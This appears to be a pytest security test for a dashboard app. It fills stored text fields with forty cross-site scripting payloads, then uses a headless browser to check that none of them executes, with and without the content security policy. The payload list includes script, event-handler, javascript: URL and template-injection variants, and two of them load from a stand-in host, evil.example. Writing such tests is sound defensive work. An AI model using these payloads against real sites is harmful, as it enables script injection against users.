"""No stored text runs as code: forty payloads in every text that a screen can show.

A payload that runs says so (`window.ran`, a dialog, or a request to another host). The content security
policy would stop most of them, so each screen is also drawn with the policy taken off.
"""

from __future__ import annotations

import importlib.util
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

import duckdb
import pytest
import sqlalchemy as sa
from playwright.sync_api import BrowserContext, Route, sync_playwright

from warehouse.audit import Audit
from warehouse.operations import open_operations, sqlite_url
from warehouse.vault import PERSON

pytestmark = [pytest.mark.screens, pytest.mark.slow]

ROOT = Path(__file__).parents[2]
CHROMIUM = Path(os.environ.get("KINKEEPER_CHROMIUM") or "/usr/bin/chromium")
RUN = "window.ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"javascript:{RUN}",
    f"[click](javascript:{RUN})",
    f"<div style='background:url(javascript:{RUN})'>",
    f"<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={RUN}>",
    f"<link rel=stylesheet href='//evil.example/{RUN}'>",
    f"<base href='//evil.example/'><script src=x.js></script>{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %> \\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
]
TEXTS = {
    "cohort_id",
    "code",
    "detail",
    "field",
    "file_name",
    "hint",
    "mapping",
    "name",
    "next_step",
    "notes",
    "of_what",
    "program_label",
    "reason",
    "rule",
    "sample_field",
    "sample_shape",
    "sentence",
    "shape",
    "source",
    "summary",
    "table_name",
}
"""What may come from a source, a policy or a person; the other texts are words of our own lists."""

PATHS = [
    "/",
    "/?view=all",
    "/overview",
    "/lifecycle",
    "/endings",
    "/pairs/pair-hostile",
    "/pairs/pair-suspected-ghosting-01",
    "/data-quality",
    "/activity",
    "/help/metrics",
    f"/?q=<img src=x onerror={RUN}>",
    f"/pairs/<img src=x onerror={RUN}>",
]


def hostile_people(file: Path) -> list[dict[str, str]]:
    """Everybody of the publication, with a payload for a name."""
    with duckdb.connect(str(file), read_only=True) as con:
        ids = con.execute(
            "select distinct unnest([mentee_id, mentor_id]) as person_id from mart.pair order by 1"
        ).fetchall()
    people = [person_id for (person_id,) in ids if person_id is not None]
    return [
        {"person_id": person, "name": PAYLOADS[index % len(PAYLOADS)]} for index, person in enumerate(people)
    ]


@pytest.fixture(scope="module")
def published() -> ModuleType:
    path = ROOT / "tests" / "dashboards" / "published.py"
    spec = importlib.util.spec_from_file_location("published", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def poison(file: Path) -> int:
    """Put payloads into every text of a publication, the same for the same value; how many columns."""
    with duckdb.connect(str(file)) as con:
        columns = con.execute(
            "select schema_name || '.' || table_name, column_name from duckdb_columns() "
            "where database_name = current_database() and schema_name in ('mart', 'ref') "
            "and data_type = 'VARCHAR' and list_contains($texts, column_name) order by all",
            {"texts": sorted(TEXTS)},
        ).fetchall()
        for table, column in columns:
            con.execute(
                f"update {table} set {column} = $payloads[1 + (hash({column}) % 40)::int] "
                f"where {column} is not null",
                {"payloads": PAYLOADS},
            )
    return len(columns)


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory, published: ModuleType) -> Iterator[str]:
    """A server whose every text is hostile, names and audit trail included; ended by its own process id."""
    home = tmp_path_factory.mktemp("hostile")
    published.write_publication(home)
    (file,) = (home / "published").glob("*.duckdb")
    assert poison(file) >= 20
    engine = open_operations(sqlite_url(home / "operations.sqlite"))
    with engine.begin() as connection:
        connection.execute(sa.insert(PERSON), hostile_people(file))
    for payload in PAYLOADS:
        Audit(engine).note(payload, payload, payload, payload, payload)
    engine.dispose()
    command = [sys.executable, "-m", "dashboards", "--home", str(home), "--port", "0", "--names"]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as server:
        assert server.stdout is not None
        try:
            ready = re.search(r"http://[\d.:]+", server.stdout.readline())
            assert ready is not None
            yield ready.group()
        finally:
            server.kill()  # a parent in the background may have handed down that SIGTERM is ignored
            server.wait(10)


@pytest.fixture(scope="module")
def browser() -> Iterator[BrowserContext]:
    if not CHROMIUM.exists():
        if os.environ.get("CI") == "true":
            pytest.fail(f"no browser at {CHROMIUM}: CI installs one")
        pytest.skip(f"no browser at {CHROMIUM}: set KINKEEPER_CHROMIUM to one")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"]
        )
        yield chromium.new_context()
        chromium.close()


def without_policy(route: Route) -> None:
    answer = route.fetch()
    headers = {name: value for name, value in answer.headers.items() if "content-security" not in name}
    route.fulfill(response=answer, headers=headers)


@pytest.mark.parametrize("has_policy", [True, False], ids=["policy", "no-policy"])
def test_no_stored_text_runs(browser: BrowserContext, address: str, has_policy: bool) -> None:
    assert len(PAYLOADS) == 40
    page, ran = browser.new_page(), []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on(
        "request", lambda asked: None if asked.url.startswith((address, "data:")) else ran.append(asked.url)
    )
    if not has_policy:
        page.route(
            "**/*",
            lambda route: (
                without_policy(route) if route.request.is_navigation_request() else route.continue_()
            ),
        )
    for path in PATHS:
        page.goto(address + path)
        page.locator("h1").first.wait_for()
        page.wait_for_load_state("networkidle")
        for button in page.locator("summary").all()[:5]:
            button.click()
        assert page.evaluate("window.ran") is None, path
        assert "could not be drawn" not in page.locator("main").inner_text(), path
    page.close()
    assert ran == []


def test_a_payload_would_be_noticed(browser: BrowserContext, address: str) -> None:
    page = browser.new_page()
    page.set_content(f"<img src=x onerror={RUN}>")
    page.wait_for_function("window.ran === 1", timeout=5000)
    page.close()
